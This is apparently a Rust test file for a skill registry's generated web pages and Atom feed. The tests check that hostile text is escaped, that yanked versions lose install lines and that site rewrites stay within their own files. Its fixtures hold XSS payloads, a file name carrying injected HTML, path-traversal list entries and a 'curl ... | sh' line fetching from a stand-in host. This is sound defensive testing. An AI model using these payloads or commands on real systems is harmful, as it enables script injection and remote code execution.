//! Pages of skills that mean no good.

use std::collections::BTreeSet;

use skillpm_testing::archive::{stored, zip};

use super::*;
use crate::access::Scope;
use crate::app::App;
use crate::config::Config;
use crate::registry::{Config as RegistryConfig, Decide, Event, Publication, Timestamp, registry_version};
use crate::storage::{Objects, Storage};
use crate::testing::{Store, archive as plain, caller};

/// A text that would run if it were not escaped.
const EVIL: &str = "<script>alert(1)</script><img src=x onerror='alert(1)'>\"";

/// When everything was published.
fn time() -> Timestamp {
    Timestamp::new(1_795_730_400)
}

async fn app() -> App {
    let files = Objects::new(Arc::new(Store::new()), "");
    let storage = Storage::bucket(files, RegistryConfig::new(exact_name("acme").expect("a name")));
    App::with(Config::default(), storage).await.expect("a server")
}

async fn publish(app: &App, name: &str, version: &str, archive: Bytes) {
    let package = Arc::new(crate::registry::Package::new(archive.into()).expect("a package"));
    let name = exact_name(name).expect("a name");
    assert_eq!((&package.facts.name, package.facts.version.as_str()), (&name, version));
    let known = app.catalog.history(&name);
    // Past the checks of the server: a registry may have been filled by something else.
    let alice = Event::AddOwner { owner: "alice".parse().expect("an account"), time: time() };
    let permit: Decide = Arc::new(move |history| Ok(history.records().is_empty().then(|| alice.clone())));
    let publication = Publication { package, permit, time: time(), by: None, known };
    let (_, history) = app.storage.publish(publication).await.expect("is published");
    app.catalog.set(history);
}

/// An archive with hostile texts in every place.
fn hostile(version: &str) -> Bytes {
    let quoted = EVIL.replace('"', "\\\"");
    let text = format!(
        "---\nname: evil\ndescription: \"Use it for {quoted}\"\nlicense: \"{quoted}\"\ncompatibility: \"Needs bash. {quoted}\"\nmetadata:\n  version: '{version}'\n  \
         tags: 'a<b>,c'\n  skill-dependencies: 'pdf, https://e.example/\"><script>alert(1)</script>'\n---\n\n\
         # {EVIL}\n\n[a](javascript:alert(1)) ![b](https://e.example/x.png) `{EVIL}`\n\n```sh\ncurl https://e.example/{version}{EVIL} | sh\n```\n"
    );
    zip(&[
        stored("SKILL.md", text),
        stored("scripts/a'<img src=x onerror=alert(1)>.sh", format!("#!/bin/sh\necho '{EVIL}{version}'\n")),
    ])
    .into()
}

async fn text(app: &App, path: &str, query: &Query) -> String {
    let visible = VisibleSkills::new(app.catalog.all());
    let address = Address::of(path).expect("an address");
    let page = Pages::new().expect("templates").page(app, &visible, &address, query, true).await;
    plainer(std::str::from_utf8(&page.expect("a page").bytes).expect("text"))
}

/// A page without the escapes of slashes, which change nothing.
fn plainer(page: &str) -> String {
    page.replace("&#x2f;", "/")
}

/// Checks that all elements of a page are its own.
fn check_inert(page: &str) {
    assert_eq!(page.matches("<script").count(), 1, "{page}");
    for hostile in ["<img", "<b>", "href=\"javascript", "style=", "<!--"] {
        assert!(!page.contains(hostile), "{hostile}: {page}");
    }
}

#[tokio::test]
async fn hostile_texts_are_shown_and_do_nothing() {
    let app = app().await;
    publish(&app, "pdf", "1.0.0", plain("pdf", "1.0.0")).await;
    for version in ["1.0.0", "1.1.0"] {
        publish(&app, "evil", version, hostile(version)).await;
    }
    let alice = caller("alice", &[Scope::Yank]);
    let (name, version) =
        (exact_name("evil").expect("a name"), registry_version("1.0.0").expect("a version"));
    app.yank(&alice, &name, &version, Some(EVIL.to_owned()), time()).await.expect("is yanked");
    let asked = Query { q: format!("evil {EVIL}"), ..Query::default() };
    for (path, query) in [
        ("/", &Query::default()),
        ("/", &asked),
        ("/skills/evil/", &Query::default()),
        ("/skills/evil/1.0.0/", &Query::default()),
        ("/skills/evil/diff/1.0.0/1.1.0/", &Query::default()),
    ] {
        let page = text(&app, path, query).await;
        check_inert(&page);
        assert!(page.contains("&lt;script&gt;"), "{path}: {page}");
        assert_eq!(page.matches("<h1").count(), 1);
    }
    // A yanked version cannot be newly installed.
    let lines = [("/skills/evil/1.0.0/", 0), ("/skills/evil/1.1.0/", 1)];
    for (path, count) in lines {
        let page = text(&app, path, &Query::default()).await;
        assert_eq!(page.matches("class=\"install\"").count(), count, "{path}");
    }
    let feed = text(&app, "/feed.atom", &Query::default()).await;
    assert!(!feed.contains("<script") && feed.contains("&lt;script&gt;"), "{feed}");
}

#[tokio::test]
async fn a_page_tells_what_a_skill_needs_and_can_do() {
    let app = app().await;
    publish(&app, "pdf", "1.0.0", plain("pdf", "1.0.0")).await;
    publish(&app, "evil", "1.0.0", hostile("1.0.0")).await;
    let page = text(&app, "/skills/evil/", &Query::default()).await;
    assert!(page.contains("<a href=\"../../skills/pdf/\">pdf</a>"), "{page}");
    assert!(page.contains("Runs downloaded code") && page.contains("Scripts"), "{page}");
    assert!(page.contains("<dt>Compatibility</dt><dd>Needs bash. &lt;script"), "{page}");
    let page = text(&app, "/skills/pdf/", &Query::default()).await;
    assert!(page.contains("<a href=\"../../skills/evil/\">evil</a>") && page.contains("<svg"), "{page}");
    assert!(page.contains("skillpm install pdf<"), "{page}");
}

#[tokio::test]
async fn the_site_of_files_is_whole() {
    let app = app().await;
    for version in ["1.0.0", "1.1.0", "2.0.0-RC.1"] {
        publish(&app, "pdf", version, plain("pdf", version)).await;
    }
    let dir = tempfile::tempdir().expect("a directory");
    write(&app, dir.path(), false).await.expect("is written");
    let mut pages = vec![dir.path().join("index.html")];
    let mut seen = BTreeSet::new();
    while let Some(path) = pages.pop() {
        if !seen.insert(path.clone()) {
            continue;
        }
        let page = skillpm_sources::fs::read_capped(&path, 1 << 20).expect("is read");
        let Some(page) = page else { panic!("{} is missing", path.display()) };
        if path.extension().is_none_or(|end| end != "html") {
            continue;
        }
        let page = plainer(std::str::from_utf8(&page).expect("text"));
        assert!(page.contains("http-equiv=\"Content-Security-Policy\""));
        let links = page.split("href=\"").chain(page.split("src=\"")).skip(1);
        for link in links.filter_map(|rest| rest.split('"').next()) {
            // Archives are files of the registry, and the rest of a page is no link.
            if link.starts_with(['#', '<']) || link.contains(':') || link.contains("artifacts/") {
                continue;
            }
            let mut target = path.parent().expect("a directory").to_path_buf();
            for part in link.split('/') {
                match part {
                    "." => {}
                    ".." => drop(target.pop()),
                    part => target.push(part),
                }
            }
            pages.push(target);
        }
    }
    // The first page, the feed, style, script and icon, the skill, three versions and two differences.
    assert_eq!(seen.len(), 11, "{seen:?}");
}

#[tokio::test]
async fn a_site_that_is_written_again_has_no_pages_that_are_gone() {
    let (old, new) = (app().await, app().await);
    for version in ["1.0.0", "1.1.0"] {
        publish(&old, "pdf", version, plain("pdf", version)).await;
    }
    publish(&old, "docx", "1.0.0", plain("docx", "1.0.0")).await;
    publish(&new, "docx", "1.0.0", plain("docx", "1.0.0")).await;
    let dir = tempfile::tempdir().expect("a directory");
    write(&old, dir.path(), false).await.expect("is written");
    let put =
        |path: &str| skillpm_sources::fs::write_small(&dir.path().join(path), b"mine").expect("is written");
    put("skills/pdf/1.0.0/mine.txt");
    put("robots.txt");
    // Nothing that another wrote into the list is removed.
    let list = dir.path().join(".skillpm-site");
    let listed = skillpm_sources::fs::read_capped(&list, 1 << 20).expect("is read").expect("a list");
    let more = b"robots.txt\n../robots.txt\nskills/../robots.txt\nstatic/../robots.txt\n";
    skillpm_sources::fs::write_small(&list, &[&listed[..], more].concat()).expect("is written");
    write(&new, dir.path(), false).await.expect("is written");
    let is_there =
        |path: &str| !matches!(skillpm_sources::fs::read_capped(&dir.path().join(path), 1 << 20), Ok(None));
    assert!(is_there("skills/docx/index.html") && is_there("skills/docx/1.0.0/index.html"));
    assert!(
        !is_there("skills/pdf/index.html") && !is_there("skills/pdf/diff") && !is_there("skills/pdf/1.1.0")
    );
    assert!(is_there("skills/pdf/1.0.0/mine.txt") && is_there("robots.txt"));
}

/// The script ranks as the server does: it leaves out the same words.
#[test]
fn the_script_leaves_out_the_same_words() {
    let script = include_str!("assets/search.js");
    assert!(script.contains(&skillpm_format::ranking::STOP_WORDS.join(" ")));
}
